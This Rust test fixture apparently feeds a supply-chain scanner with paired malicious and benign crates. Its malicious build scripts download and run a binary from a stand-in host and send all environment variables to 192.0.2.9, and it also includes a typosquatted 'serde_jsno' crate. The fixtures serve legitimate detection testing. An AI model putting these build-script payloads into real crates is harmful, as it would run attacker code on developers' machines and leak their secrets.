use super::{Shapes, release};
use bifocal_core::{Ecosystem, Release};
use bifocal_testkit::{CratePackage, Upstream};

fn put(upstream: &Upstream, package: CratePackage) -> Release {
    let release = release(Ecosystem::Cargo, package.name(), package.version());
    upstream.publish(package);
    release
}

fn krate(name: &str) -> CratePackage {
    CratePackage::new(name, "1.0.0").repository(&format!("https://code.example.com/{name}")).file("src/lib.rs", "//! A crate.\n")
}

pub(crate) fn publish(upstream: &Upstream) -> Shapes {
    let mut shapes = Shapes::default();
    let put = |package| put(upstream, package);

    shapes.add(
        "the build script fetches a program and runs it",
        put(krate("shape-build-dropper").build_script(
            "use std::process::Command;\n\nfn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://files.example.com/x -o /tmp/x && chmod +x /tmp/x && /tmp/x\").spawn().unwrap();\n}\n",
        )),
        put(krate("twin-build-probe").build_script(
            "use std::process::Command;\n\nfn main() {\n    let rustc = std::env::var(\"RUSTC\").unwrap();\n    let output = Command::new(rustc).arg(\"--version\").output().unwrap();\n    if String::from_utf8_lossy(&output.stdout).contains(\"nightly\") {\n        println!(\"cargo:rustc-cfg=nightly\");\n    }\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n",
        )),
    );
    shapes.add(
        "the build script sends all environment variables away",
        put(krate("shape-build-environment").build_script(
            "use std::io::Write;\nuse std::net::TcpStream;\n\nfn main() {\n    let all: Vec<String> = std::env::vars().map(|(k, v)| format!(\"{k}={v}\")).collect();\n    if let Ok(mut stream) = TcpStream::connect(\"192.0.2.9:80\") {\n        let _ = stream.write_all(all.join(\"\\n\").as_bytes());\n    }\n}\n",
        )),
        put(krate("twin-build-generate").build_script(
            "use std::io::Write;\n\nfn main() {\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    let target = std::env::var(\"TARGET\").unwrap();\n    let mut file = std::fs::File::create(format!(\"{out}/target.rs\")).unwrap();\n    writeln!(file, \"pub const TARGET: &str = {target:?};\").unwrap();\n}\n",
        )),
    );
    let named = put(krate("shape-recorded-crate"));
    shapes.malware.push(named.clone());
    shapes.add("a crate that a malware record names", named, put(krate("twin-unrecorded-crate")));
    let replaced = put(krate("shape-replaced-crate"));
    shapes.replaced.push(replaced.clone());
    shapes.add("a crate whose bytes were replaced after it was locked", replaced, put(krate("twin-unchanged-crate")));
    shapes.popular = vec!["serde_json", "tokio", "rand", "regex", "clap"];
    shapes.add(
        "a crate name one slip away from a famous one, without a past",
        put(CratePackage::new("serde_jsno", "1.0.0").file("src/lib.rs", "//! A crate.\n").published("2026-11-20T00:00:00Z")),
        put(krate("tokio-notes")),
    );
    shapes
}
